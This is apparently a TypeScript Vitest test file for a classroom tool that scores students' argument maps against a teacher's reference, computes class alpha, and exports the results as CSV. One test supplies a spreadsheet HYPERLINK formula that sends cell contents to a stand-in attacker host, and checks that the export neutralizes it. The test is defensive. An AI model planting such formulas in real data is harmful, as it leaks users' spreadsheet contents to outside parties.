import { describe, expect, it } from 'vitest';
import type { ArgumentMap, ArgumentUnit, Relation } from '@/lib/argument/types';
import { hundredths } from './prf';
import { CLASS_AGREEMENT_COLUMNS, classAgreement, classAgreementCsv, wordTokens, type ClassMember } from './classAgreement';

const unit = (id: string, label: string, start: number, end: number): ArgumentUnit => ({ id, label, start, end, note: '' });
const rel = (id: string, type: 'support' | 'attack', from: string, to: string): Relation => ({ id, type, from: [from], to, note: '' });
const member = (name: string, map: ArgumentMap | null, submittedAt: string | null = null): ClassMember => ({
  userId: `id-${name}`,
  name,
  displayName: name.toUpperCase(),
  map: map && { ...map, id: `map-${name}`, submittedAt },
});

// Six tokens: t0 [0,2) t1 [2,3) t2 [3,5) t3 [5,6) t4 [6,8) t5 [8,10).
const tokens = [
  { start: 0, end: 2 },
  { start: 2, end: 3 },
  { start: 3, end: 5 },
  { start: 5, end: 6 },
  { start: 6, end: 8 },
  { start: 8, end: 10 },
];
const labels = ['claim', 'evidence', 'counterargument', 'rebuttal'];
const reference: ArgumentMap = { units: [unit('r1', 'claim', 0, 5), unit('r2', 'evidence', 5, 8)], relations: [rel('s', 'support', 'r2', 'r1')], mainClaimId: 'r1' };
const students = [
  // the reference's units and relation under other ids: perfect
  member('aki', { units: [unit('a1', 'claim', 0, 5), unit('a2', 'evidence', 5, 8)], relations: [rel('x', 'support', 'a2', 'a1')], mainClaimId: null }, '2030-01-01T00:00:00.000Z'),
  // m1 [0,3) overlaps r1 by 3 of 5 (≥ ½, not exact); m2 [6,10) overlaps r2 by 2 of max(3,4) = 4
  // (≥ ½) with the wrong label; the relation's endpoints pair up but its type differs
  member('mio', { units: [unit('m1', 'claim', 0, 3), unit('m2', 'claim', 6, 10)], relations: [rel('y', 'attack', 'm2', 'm1')], mainClaimId: null }),
  member('ren', null), // not started
  member('sou', { units: [], relations: [], mainClaimId: null }, '2030-01-02T00:00:00.000Z'), // handed in an empty map
  member('kai', { units: [], relations: [], mainClaimId: null }), // opened the text, drew nothing, did not submit: not started
];

describe('classAgreement', () => {
  const result = classAgreement({ reference, students, tokens, labels });

  it('scores each student against the reference (hand-computed)', () => {
    const [aki, mio, ren, sou, kai] = result.students;
    expect(result.reference).toEqual({ units: 2, relations: 1 });
    expect(aki).toMatchObject({ name: 'aki', displayName: 'AKI', mapId: 'map-aki', submittedAt: '2030-01-01T00:00:00.000Z', units: 2, relations: 1 });
    expect(aki.vsReference).toMatchObject({ unitsExact: { f1: 1 }, unitsOverlap: { f1: 1 }, labelAccuracy: 1, relationsTyped: { f1: 1 }, relationsUntyped: { f1: 1 } });

    expect(mio.vsReference).toMatchObject({
      unitsExact: { precision: 0, recall: 0, f1: 0, matched: 0, missing: 2, extra: 2 },
      unitsOverlap: { precision: 1, recall: 1, f1: 1, matched: 2 },
      labelAccuracy: 0.5,
      labelPairs: 2,
      labelAgreeing: 1,
      relationsTyped: { f1: 0, matched: 0 },
      relationsUntyped: { f1: 1, matched: 1 },
      // The teacher's reading, every token a word (no parts of speech): r1's 3 words, m1 shares
      // 2 (2·2 ≥ 3, Dice 4/5); r2's 2 words, m2 shares 1 (2·1 ≥ 2, Dice 2/4) with another label.
      teacher: { referenceUnits: 2, found: 2, boundariesDiffer: 2, labelDiffers: 1, meanDice: 0.65, referenceRelations: 1, relationsFound: 0, relationsPartlyFound: 0, referenceImplicitUnits: 0, implicitUnitsFound: 0, mainClaimFound: true },
    });
    expect(ren).toEqual({ userId: 'id-ren', name: 'ren', displayName: 'REN', mapId: null, submittedAt: null, units: null, relations: null, vsReference: null });
    // an opened but untouched map is not started; a submitted empty map is scored: nothing found of two units
    expect(kai).toMatchObject({ mapId: 'map-kai', units: 0, vsReference: null });
    expect(sou.vsReference).toMatchObject({ unitsExact: { f1: 0, missing: 2 }, unitsOverlap: { precision: 0, recall: 0, f1: 0 }, labelAccuracy: null, relationsTyped: { f1: 0 } });
    expect(sou.units).toBe(0);
  });

  it('averages over the students with a map, each weighing the same', () => {
    const m = result.means!;
    expect(m.students).toBe(3); // aki, mio, sou — not ren, not kai
    expect(m.unitsExact.f1).toBeCloseTo(1 / 3, 12);
    expect(m.unitsOverlap).toEqual({ precision: 2 / 3, recall: 2 / 3, f1: 2 / 3 });
    expect(m.labelAccuracy).toBeCloseTo(0.75, 12); // (1 + 0.5) / 2: sou has no pair to judge
    expect(m.relationsTyped.f1).toBeCloseTo(1 / 3, 12);
    expect(m.relationsUntyped.f1).toBeCloseTo(2 / 3, 12);
  });

  it('computes class alpha among the students only, the reference not a coder (hand-computed)', () => {
    // Token values (innermost label, NONE = ·): aki C C C E E ·; mio C C · · C C; sou · · · · · ·.
    // claim vs rest: o_CC = 2, o_C· = o_·C = 5, o_·· = 6; n_C = 7, n_· = 11, n = 18
    //   α = 1 − 17·(18 − 8) / (324 − 49 − 121) = 1 − 170/154 = −8/77
    // evidence vs rest: o_EE = 0, o_E· = 2, o_·· = 14; n_E = 2, n_· = 16
    //   α = 1 − 17·(18 − 14) / (324 − 4 − 256) = −1/16
    // overall {C, E, ·}: diagonal 2 + 0 + 3 = 5; n_C = 7, n_E = 2, n_· = 9
    //   α = 1 − 17·(18 − 5) / (324 − 49 − 4 − 81) = 1 − 221/190 = −31/190
    expect(result.alpha.annotators).toBe(3);
    expect(result.alpha.tokens).toBe(6);
    expect(result.alpha.byLabel.claim).toBeCloseTo(-8 / 77, 12);
    expect(result.alpha.byLabel.evidence).toBeCloseTo(-1 / 16, 12);
    expect(result.alpha.overall).toBeCloseTo(-31 / 190, 12);
    expect(result.alpha.byLabel.counterargument).toBeNull(); // nobody used it: no variation
    expect(Object.keys(result.alpha.byLabel)).toEqual(labels);
    expect(result.labels).toEqual(labels);
  });

  it('without a reference: no per-student scores and no means, the same class alpha', () => {
    const without = classAgreement({ reference: null, students, tokens, labels });
    expect(without.reference).toBeNull();
    expect(without.means).toBeNull();
    expect(without.students.map((s) => s.vsReference)).toEqual([null, null, null, null, null]);
    expect(without.students.map((s) => s.units)).toEqual([2, 2, null, 0, 0]);
    expect(without.alpha).toEqual(result.alpha);
  });

  it('counts a student’s implicit units and undercutters; class alpha stays over the text', () => {
    // aki's map plus an unstated premise joined to a2 in one linked argument, and an undercutter
    // of it by a3: 4 units (3 of the text + 1 implicit), 2 relations (the linked argument once).
    const deeper = member('aki', {
      units: [unit('a1', 'claim', 0, 5), unit('a2', 'evidence', 5, 8), { id: 'ai', label: 'evidence', implicit: true, text: '前提', note: '' }, unit('a3', 'counterargument', 8, 10)],
      relations: [{ id: 'x', type: 'support', from: ['a2', 'ai'], to: 'a1', note: '' }, { id: 'z', type: 'attack', from: ['a3'], to: 'x', note: '' }],
      mainClaimId: null,
    });
    const c = classAgreement({ reference, students: [deeper, students[1]], tokens, labels });
    expect([c.students[0].units, c.students[0].relations]).toEqual([4, 2]);
    // Against the reference (r2 → r1): x pairs with s for credit 2·1/(1+2) = 2/3; z is extra.
    // typed P = (2/3)/2 = 1/3, R = (2/3)/1 = 2/3.
    expect(c.students[0].vsReference!.relationsTyped.precision).toBeCloseTo(1 / 3, 12);
    expect(c.students[0].vsReference!.relationsTyped.recall).toBeCloseTo(2 / 3, 12);
    // The implicit unit leaves the alpha among the text's units as it was without it.
    const plain = classAgreement({ reference, students: [member('aki', { units: [unit('a1', 'claim', 0, 5), unit('a2', 'evidence', 5, 8), unit('a3', 'counterargument', 8, 10)], relations: [], mainClaimId: null }), students[1]], tokens, labels });
    expect(c.alpha).toEqual(plain.alpha);
  });

  it('has every alpha null with fewer than two maps', () => {
    const one = classAgreement({ reference, students: [students[0], students[2]], tokens, labels });
    expect(one.alpha).toMatchObject({ overall: null, annotators: 1 });
    expect(Object.values(one.alpha.byLabel)).toEqual([null, null, null, null]);
    expect(one.means!.students).toBe(1);
  });
});

describe('wordTokens', () => {
  it('drops whitespace-only tokens', () => {
    const text = '主張\n 根拠 。';
    const spans = [
      { start: 0, end: 2 },
      { start: 2, end: 3 },
      { start: 3, end: 4 },
      { start: 4, end: 6 },
      { start: 6, end: 7 },
      { start: 7, end: 8 },
    ];
    expect(wordTokens(text, spans)).toEqual([spans[0], spans[3], spans[5]]);
  });
});

describe('classAgreementCsv', () => {
  it('writes one rectangular RFC 4180 table with a BOM: students, mean, alpha per label', () => {
    const quoted = [{ ...students[0], displayName: 'Aki, "the first"' }, students[2]];
    const csv = classAgreementCsv(classAgreement({ reference, students: quoted, tokens, labels: ['claim'] }));
    expect(csv.startsWith('\ufeff')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const lines = csv.slice(1).split('\r\n').slice(0, -1);
    expect(lines[0]).toBe(CLASS_AGREEMENT_COLUMNS.join(','));
    expect(lines[1]).toBe('student,aki,"Aki, ""the first""",map-aki,2030-01-01T00:00:00.000Z,2,1,2,0,0,1,1,1,1,1,1,1,1,1,1,1,,,2,2,0,0,1,1,1,0,0,0');
    expect(lines[2]).toBe('student,ren,REN,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,');
    // the teacher's columns of the mean row are shares found
    expect(lines[3]).toBe('mean,,,,,,,,,,1,1,1,1,1,1,1,1,1,1,1,,,,1,,,,,1,0,,');
    // one coder: alpha undefined → empty cell
    expect(lines.slice(4)).toEqual(['alpha,,,,,,,,,,,,,,,,,,,,,claim,,,,,,,,,,,', 'alpha,,,,,,,,,,,,,,,,,,,,,(all),,,,,,,,,,,']);
    for (const line of [lines[2], ...lines.slice(3)]) expect(line.split(',')).toHaveLength(CLASS_AGREEMENT_COLUMNS.length);
  });

  it('writes alpha values and leaves out the mean row without a reference; bom: false', () => {
    const csv = classAgreementCsv(classAgreement({ reference: null, students, tokens, labels: ['claim', 'evidence'] }), { bom: false });
    const lines = csv.split('\r\n').slice(0, -1);
    expect(lines[0].startsWith('row,')).toBe(true);
    expect(lines.filter((l) => l.startsWith('mean,'))).toEqual([]);
    expect(lines[1]).toBe('student,aki,AKI,map-aki,2030-01-01T00:00:00.000Z,2,1,,,,,,,,,,,,,,,,,,,,,,,,,,');
    const col = (name: (typeof CLASS_AGREEMENT_COLUMNS)[number]) => CLASS_AGREEMENT_COLUMNS.indexOf(name);
    const alpha = lines.filter((l) => l.startsWith('alpha,')).map((l) => l.split(','));
    expect(alpha.map((cells) => cells[col('alpha_label')])).toEqual(['claim', 'evidence', '(all)']);
    // −8/77 = −0.1039… and −1/16 = −0.0625, to two decimals (the JSON keeps full precision)
    expect(alpha[0][col('alpha')]).toBe('-0.1');
    expect(alpha[1][col('alpha')]).toBe('-0.06');
  });

  it('neutralizes a display name that is a formula, and keeps negative figures numbers', () => {
    const evil = [{ ...students[0], name: '-aki', displayName: '=HYPERLINK("http://evil.example/?"&A1,"Aki")' }, ...students.slice(1)];
    const csv = classAgreementCsv(classAgreement({ reference: null, students: evil, tokens, labels: ['claim'] }), { bom: false });
    const lines = csv.split('\r\n');
    expect(lines[1].startsWith(`student,'-aki,"'=HYPERLINK(""http://evil.example/?""&A1,""Aki"")",`)).toBe(true);
    expect(lines.find((l) => l.startsWith('alpha,'))!.split(',')[CLASS_AGREEMENT_COLUMNS.indexOf('alpha')]).toMatch(/^-0\.\d+$/);
  });
});


describe('hundredths (the figures of the CSV files)', () => {
  it('rounds to two decimals, half away from zero (0.9666666666666667 → 0.97)', () => {
    expect([0.9666666666666667, 2 / 3, 1 / 3, -5 / 28, 0.125, -0.004, 1, 0, null].map(hundredths)).toEqual([0.97, 0.67, 0.33, -0.18, 0.13, 0, 1, 0, null]);
  });
});
